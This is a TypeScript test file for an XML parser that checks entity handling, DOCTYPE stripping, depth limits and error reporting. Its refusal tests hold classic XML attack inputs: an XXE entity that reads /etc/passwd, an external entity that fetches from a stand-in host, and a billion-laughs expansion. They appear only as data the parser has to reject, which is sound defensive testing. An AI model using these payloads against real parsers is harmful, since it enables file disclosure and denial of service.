import { describe, expect, it } from 'vitest';
import { NAMED_CHARACTERS } from './named-characters.ts';
import { PublicationRefusedError } from '../import-refusal.ts';
import { parseXml } from './xml-parser.ts';

function read(source: string, xmlDepth = 1000): string {
  let text = '';
  parseXml(
    source,
    'a.xhtml',
    { xmlDepth },
    {
      open: (tag) => {
        text += `<${Object.values(tag.attributes)
          .map(({ value }) => value)
          .join()}>`;
      },
      close: () => undefined,
      text: (part) => {
        text += part;
      },
    },
  );
  return text;
}

function refusal(source: string, xmlDepth?: number): PublicationRefusedError {
  try {
    read(source, xmlDepth);
  } catch (error) {
    if (error instanceof PublicationRefusedError) return error;
    throw error;
  }
  throw new Error('not refused');
}

describe('parseXml', () => {
  it('knows the named entities of XHTML and MathML', () => {
    expect(Object.values(NAMED_CHARACTERS).every((character) => [...character].length === 1)).toBe(true);
    expect(read('<a>&InvisibleTimes;&leq;&lbrace;</a>')).toBe('<>\u2062≤{');
    expect(read('<a b="&nbsp;&quot;">&mdash;&hellip;&lt;&yuml;&diams;&thetasym;&apos;&Alpha;</a>')).toBe(
      '<\u00a0">—…<ÿ♦ϑ\'Α',
    );
  });

  it.each(['&foo;', '&constructor;', '&__proto__;', '&toString;'])('does not know %s', (entity) => {
    expect(refusal(`<a>${entity}</a>`).code).toBe('malformedXml');
  });

  it.each([
    '<!DOCTYPE html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">',
    '<!DOCTYPE html SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE a [ <!ELEMENT a (#PCDATA)> <!ATTLIST a b CDATA "c"> ]>',
    '<!DOCTYPE a [ <!ATTLIST p id ID #IMPLIED> <!-- 100% <!ENTITY x "y"> fine --> ]>',
    '<!DOCTYPE a PUBLIC "-//[X]//" "a.dtd" [ <!ATTLIST a b CDATA "50 % > 1"> <?keep <!ENTITY?> ]>',
    "<!DOCTYPE a [ <!NOTATION gif SYSTEM 'viewer'> <!ENTITY nbsp '&#160;'> ]>",
    '<!DOCTYPE a [\n<!ELEMENT a ANY>\n]  >',
  ])('drops %s', (doctype) => {
    expect(read(`${doctype}<a>x</a>`)).toBe('<>x');
  });

  it.each([
    ['<!ENTITY copy "&#169;"><!ENTITY nbsp "&#xA0;">', 'a &copy;&nbsp;b', 'a \u00a9\u00a0b'],
    ['<!ENTITY amp "&#38;#38;">', 'a &amp; b', 'a & b'],
    ["<!ENTITY dash '&#x2014;&#x2014;'>", '&dash;', '\u2014\u2014'],
    ['<!ENTITY face "&#x1F600;">', '&face;', '\u{1f600}'],
    ['<!ENTITY less "&#60;">', '&less;b>', '<b>'],
  ])('reads the characters of %s', (subset, text, expected) => {
    expect(read(`<!DOCTYPE a [${subset}]><a>${text}</a>`)).toBe(`<>${expected}`);
  });

  it.each([
    ['<!DOCTYPE a [ <!ENTITY x "y"> ]>', 'x'],
    ['<!DOCTYPE a [ <!ENTITY x "&#65;b"> ]>', 'x'],
    [`<!DOCTYPE a [ <!ENTITY x "${'&#65;'.repeat(9)}"> ]>`, 'x'],
    ['<!DOCTYPE a [ <!ENTITY x "&#0;"> ]>', 'x'],
    ['<!DOCTYPE a [ <!ENTITY x "&#65;" NDATA b> ]>', 'x'],
    ['<!DOCTYPE a [ <!ATTLIST a b CDATA "]>"> <!ENTITY x "yy"> ]>', 'x'],
    ['<!DOCTYPE a [ <!ELEMENT a %b;> ]>', undefined],
    ['<!DOCTYPE a [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>', 'xxe'],
    ['<!DOCTYPE a SYSTEM "a.dtd" [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]>', 'p'],
    ['<!DOCTYPE a [ %p; ]>', undefined],
    ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>', 'lol'],
  ])('refuses %s', (doctype, name) => {
    const error = refusal(`<?xml version="1.0"?>\n${doctype}<a>&x;</a>`);
    expect(error).toMatchObject({ code: 'entityDeclared', file: 'a.xhtml', line: 2, detail: name });
    expect(error.reason.zh).toContain('实体');
  });

  it('returns the line and column of an error', () => {
    expect(refusal('<a>\n  <b></c></a>')).toMatchObject({
      code: 'malformedXml',
      file: 'a.xhtml',
      line: 2,
      column: 9,
    });
    expect(refusal('<a>').detail).toMatch(/unclosed/);
    expect(refusal('').code).toBe('malformedXml');
    expect(refusal('<a x:b="c"/>').detail).toMatch(/prefix/);
    expect(refusal('<a/><b/>').code).toBe('malformedXml');
    expect(refusal('<a b="1" b="2"/>').detail).toMatch(/duplicate/i);
  });

  it('limits the depth of elements', () => {
    expect(read('<a>'.repeat(1000) + '</a>'.repeat(1000))).toHaveLength(2000);
    expect(refusal('<a>'.repeat(1001) + '</a>'.repeat(1001)).code).toBe('tooDeep');
    expect(refusal('<a><b/></a>', 1).code).toBe('tooDeep');
  });

  it('reads XML 1.1 by the rules of 1.0, which the output uses', () => {
    expect(refusal('<?xml version="1.1"?><a>&#1;</a>').code).toBe('malformedXml');
  });
});
